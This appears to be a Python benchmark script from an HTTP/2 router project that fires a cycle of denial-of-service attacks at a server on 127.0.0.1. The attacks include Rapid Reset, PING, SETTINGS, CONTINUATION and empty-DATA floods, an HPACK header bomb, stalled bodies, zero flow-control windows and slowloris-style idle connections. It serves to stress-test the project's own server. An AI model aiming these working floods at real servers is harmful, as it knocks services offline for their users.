"""Attacks on an HTTP/2 server of this machine, one after the other until the time is up.

`python -m bench.attacks PORT SECONDS` sends nothing anywhere but to that port of 127.0.0.1.
"""

import itertools
import socket
import sys
import time
from collections.abc import Iterator

from bench.echo import ECHO
from router.http2 import frames
from router.http2.headers import encode

_HELLO = frames.PREFACE + frames.settings({})
_ROUNDS = 40
_IDLE = 200


def main(port: int, seconds: float) -> None:
    """Attacks, and prints how many connections that took."""
    deadline = time.monotonic() + seconds
    idle = [socket.create_connection(("127.0.0.1", port)) for _ in range(_IDLE)]
    for one in idle:
        one.sendall(b"GET / HTTP/1.1\r\nhost: a\r\nx: ")
    made = 0
    for attack in itertools.cycle(_ATTACKS):
        if time.monotonic() > deadline:
            break
        made += 1
        with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
            connection.setblocking(False)
            _send(connection, _HELLO)
            for part in attack():
                if time.monotonic() > deadline or not _send(connection, part):
                    break
    for one in idle:
        one.close()
    print(made)


def _send(connection: socket.socket, data: bytes) -> bool:
    """Sends what the server takes within a moment, and throws away what it says; False if it is over."""
    until = time.monotonic() + 0.2
    while data and time.monotonic() < until:
        try:
            data = data[connection.send(data) :]
            if not connection.recv(1 << 20):
                return False
        except BlockingIOError:
            time.sleep(0.0005)
        except OSError:
            return False
    return not data


def _block(**more: str) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": ECHO, ":authority": "a"}
    fields |= {"content-type": "application/grpc"} | more
    return encode((name.encode(), value.encode()) for name, value in fields.items())


def _rapid_reset() -> Iterator[bytes]:
    block = _block()
    reset = frames.ErrorCode.CANCEL
    for start in range(1, 200 * _ROUNDS, 200):
        yield b"".join(
            frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
            + frames.reset(stream, reset)
            for stream in range(start, start + 200, 2)
        )


def _flood(frame: bytes) -> Iterator[bytes]:
    for _ in range(_ROUNDS):
        yield frame * 500


def _pings() -> Iterator[bytes]:
    return _flood(frames.frame(frames.PING, 0, 0, bytes(8)))


def _settings() -> Iterator[bytes]:
    return _flood(frames.settings({frames.SETTINGS_INITIAL_WINDOW_SIZE: 1_000}))


def _empty_bodies() -> Iterator[bytes]:
    yield frames.frame(frames.HEADERS, frames.END_HEADERS, 1, _block())
    yield from _flood(frames.frame(frames.DATA, 0, 1))


def _continuations() -> Iterator[bytes]:
    yield frames.frame(frames.HEADERS, 0, 1, _block())
    yield from _flood(frames.frame(frames.CONTINUATION, 0, 1, b""))


def _header_bomb() -> Iterator[bytes]:
    entry = b"\x40" + encode(((b"x-large", b"v" * 3_900),))[1:]
    yield frames.frame(frames.HEADERS, 5, 1, _block() + entry)
    for stream in range(3, 2 * _ROUNDS, 2):
        yield frames.frame(frames.HEADERS, 5, stream, b"\xbe" * 16_000)


def _held_bodies() -> Iterator[bytes]:
    """Bodies that never end, as many and as large as they may be."""
    part = b"\0" + (60 << 20).to_bytes(4) + bytes(16_000)
    for stream in range(1, 400, 2):
        yield frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _block())
        yield frames.frame(frames.DATA, 0, stream, part) * 8


def _shut_windows() -> Iterator[bytes]:
    """Answers that are never taken."""
    yield frames.settings({frames.SETTINGS_INITIAL_WINDOW_SIZE: 0})
    body = bytes(5)[:1] + (50_000).to_bytes(4) + bytes(50_000)
    for stream in range(1, 400, 2):
        yield frames.frame(frames.HEADERS, frames.END_HEADERS, stream, _block())
        for start in range(0, len(body), 16_000):
            part = body[start : start + 16_000]
            last = frames.END_STREAM if start + 16_000 >= len(body) else 0
            yield frames.frame(frames.DATA, last, stream, part)


_ATTACKS = (
    _rapid_reset,
    _pings,
    _settings,
    _empty_bodies,
    _continuations,
    _header_bomb,
    _held_bodies,
    _shut_windows,
)

if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]))
